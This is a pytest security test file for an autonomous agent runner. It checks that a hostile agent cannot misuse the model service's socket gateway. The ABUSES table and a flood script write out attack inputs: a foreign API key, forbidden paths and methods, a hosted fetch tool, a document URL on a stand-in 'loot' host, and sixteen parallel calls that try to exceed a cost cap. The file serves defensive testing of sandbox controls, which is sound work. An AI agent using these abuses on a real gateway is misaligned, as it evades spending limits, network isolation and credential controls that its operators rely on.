"""A hostile agent turns to the model's service on its own: it gets nothing there that the run did not grant."""

import json
from dataclasses import dataclass
from pathlib import Path

import pytest

from attacks.stage import Raid, Stage, commands, make_stage, python, want
from autorun.core.model import TaskState
from autorun.demo.script import say

_CLIENT = """
import http.client, json, os, socket, sys, threading
class Way(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.settimeout(30)
        self.sock.connect(os.environ["ANTHROPIC_UNIX_SOCKET"])
KEY = os.environ["ANTHROPIC_API_KEY"]
def call(method="POST", path="/v1/messages", key=KEY, **more):
    body = {"model": MODEL, "max_tokens": 8192, "messages": [{"role": "user", "content": "EXTRA " + NAME}], **more}
    way = Way("localhost")
    try:
        way.request(method, path, json.dumps(body), {"x-api-key": key, "content-type": "application/json"})
        answer = way.getresponse()
        answer.read()
        return answer.status
    except OSError as error:
        return repr(error)
"""


def client(name: str, source: str, model: str = "claude-opus-5-5") -> str:
    """Return the command that runs a script which can call the model's service as the CLI does."""
    return python(f"MODEL, NAME = {model!r}, {name!r}\n{_CLIENT}\n{source}")


ABUSES = {
    "foreign-key": 'print("status", call(key="sk-ant-attackers-own"))',
    "foreign-path": 'print("status", call(path="/v1/files"))',
    "foreign-method": 'print("status", call(method="DELETE"))',
    "absolute-address": 'print("status", call(path="http://127.0.0.1:9/v1/messages"))',
    "hosted-tool": 'print("status", call(tools=[{"type": "web_fetch_20260209", "name": "web_fetch"}]))',
    "remote file": (
        'print("status", call(messages=[{"role": "user", "content": [{"type": "document", "source": '
        '{"type": "url", "url": "https://loot.example.test/"}}, {"type": "text", "text": "EXTRA remote file"}]}]))'
    ),
}
COMMANDS = {name: client(name, source) for name, source in ABUSES.items()} | {
    "foreign-model": client("foreign-model", 'print("status", call())', model="claude-haiku-4-5"),
    "control": client("control", 'print("status", call())'),
}


@dataclass(frozen=True, kw_only=True)
class Talks:
    """A session in which the agent spoke to the model's service by itself."""

    stage: Stage
    raid: Raid

    def arrived(self, name: str) -> int:
        """Count the agent's own requests of that name which reached the service, on any path."""
        return _count(self.raid, name)


def _count(raid: Raid, name: str) -> int:
    bodies = [request.body.get("messages") or [{}] for request in raid.received]
    return sum(f"EXTRA {name}" in json.dumps(messages[0]) for messages in bodies)


@pytest.fixture(scope="module")
def talks(tmp_path_factory: pytest.TempPathFactory) -> Talks:
    """One conversation with every abuse, and one call of the same make that is allowed."""
    stage = make_stage(tmp_path_factory.mktemp("model"))
    want(stage, "talk")
    raid = stage.play({"Task talk": commands(list(COMMANDS.values())), "EXTRA": lambda _: say("granted")})
    return Talks(stage=stage, raid=raid)


def test_the_same_call_within_bounds_passes(talks: Talks) -> None:
    """The client of these attacks works: what is refused below is refused for what it asks."""
    assert "status 200" in talks.raid.said(COMMANDS["control"])
    assert talks.arrived("control") == 1


@pytest.mark.parametrize(
    "name", ["foreign-key", "foreign-path", "foreign-method", "absolute-address", "foreign-model", "hosted-tool"]
)
def test_abuse_of_the_gateway(talks: Talks, name: str) -> None:
    """Without the gateway's rules: data leaves by a foreign account, a file store or a hosted tool."""
    said = talks.raid.said(COMMANDS[name])
    assert "status" in said  # or the error of a connection that was ended before all was read
    assert "status 200" not in said
    assert talks.arrived(name) == 0


def test_links_the_service_would_follow(talks: Talks) -> None:
    """Without a look into the conversation: the provider fetches an address for the agent that has no network."""
    assert "status 403" in talks.raid.said(COMMANDS["remote file"])
    assert talks.arrived("remote file") == 0


def test_only_our_key_is_sent(talks: Talks) -> None:
    """Without the exchange of credentials: the agent's process holds the real key and can send it anywhere."""
    assert {request.headers.get("x-api-key") for request in talks.raid.asked} == {
        talks.stage.environ["ANTHROPIC_API_KEY"]
    }


FLOOD = client(
    "flood",
    """
answers = []
threads = [threading.Thread(target=lambda: answers.append(call())) for _ in range(16)]
for thread in threads: thread.start()
for thread in threads: thread.join()
print("granted", answers.count(200), "of", len(answers))
""",
)


def test_overspending_by_parallel_calls(tmp_path: Path) -> None:
    """Without reservations before calls: sixteen calls at once pass a cap that has room for two or three."""
    stage = make_stage(tmp_path, config={"autonomous": {"cost_limit_per_task": 0.6}})
    want(stage, "flood")
    costly = say("granted").costing(input=1000, output=8000).after(0.3)  # 16 cents each
    raid = stage.play({"Task flood": commands([FLOOD]), "EXTRA": lambda _: costly})
    record = stage.record("flood")
    assert record is not None, raid.log
    assert 1 <= _count(raid, "flood") <= 3, raid.said(FLOOD)
    assert sum(attempt.usage.cost_usd for attempt in record.attempts) <= 0.6
    assert record.state is not TaskState.IN_REVIEW
